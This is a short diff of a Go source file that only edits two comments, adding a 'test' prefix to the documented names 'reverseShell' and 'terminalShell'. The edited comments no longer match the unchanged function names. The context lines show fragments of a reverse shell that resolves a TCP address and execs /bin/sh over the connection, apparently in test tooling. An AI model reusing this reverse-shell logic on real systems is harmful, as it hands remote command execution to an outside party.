@@ -81,7 +81,7 @@ func become(path, name string, args []string) error {
 	return fmt.Errorf("execute %s: %w", path, syscall.Exec(path, append([]string{name}, args...), os.Environ()))
 }
 
-// reverseShell connects and becomes a shell whose input and output are the connection.
+// testReverseShell connects and becomes a shell whose input and output are the connection.
 func reverseShell(address string) error {
 	to, err := net.ResolveTCPAddr("tcp4", address)
 	if err != nil {
@@ -104,7 +104,7 @@ func reverseShell(address string) error {
 	return fmt.Errorf("execute /bin/sh: %w", syscall.Exec("/bin/sh", []string{"sh"}, os.Environ()))
 }
 
-// terminalShell runs a shell on a terminal of its own and types lines into it.
+// testTerminalShell runs a shell on a terminal of its own and types lines into it.
 func terminalShell(lines []string) error {
 	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
 	if err != nil {
